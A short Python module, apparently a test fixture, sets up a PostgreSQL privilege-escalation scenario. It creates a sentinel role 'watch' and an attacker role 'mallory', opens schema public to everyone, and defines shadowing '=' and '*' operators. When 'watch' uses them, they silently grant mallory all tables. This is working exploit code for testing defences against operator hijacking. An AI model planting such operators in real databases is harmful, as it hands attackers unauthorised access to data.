"""Another role of the server that holds the state, who may create in its schema."""

import psycopg

_HERS = """
CREATE FUNCTION hers({left}, {right}) RETURNS {result} LANGUAGE plpgsql AS $$ BEGIN
  IF current_user = 'watch' THEN GRANT ALL ON ALL TABLES IN SCHEMA public TO mallory; END IF;
  RETURN $1::{plain} OPERATOR(pg_catalog.{name}) $2::{plain};
END $$;
CREATE OPERATOR {name} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = hers);
"""
HERS = (
    _HERS.format(name="=", left="varchar", right="varchar", result="boolean", plain="text"),
    _HERS.format(name="*", left="numeric", right="integer", result="numeric", plain="numeric"),
    _HERS.format(name="=", left="oid", right="regclass", result="boolean", plain="oid"),
)
"""Operators whose types fit better than those of the server's own. Each gives its owner all tables, when
the role of sentinel uses it."""


def make_roles(url: str) -> None:
    """The role `watch` for sentinel, and `mallory`. Both may create in `public`, as by default before 15."""
    with psycopg.connect(url, autocommit=True) as connection:
        connection.execute("DROP ROLE IF EXISTS watch, mallory; CREATE ROLE watch LOGIN")
        connection.execute("CREATE ROLE mallory LOGIN")
        connection.execute("GRANT CREATE, USAGE ON SCHEMA public TO PUBLIC")


def url_of(role: str, url: str) -> str:
    """The address of the same database for that role."""
    return f"postgresql://{role}@/{url.partition('@/')[2]}"
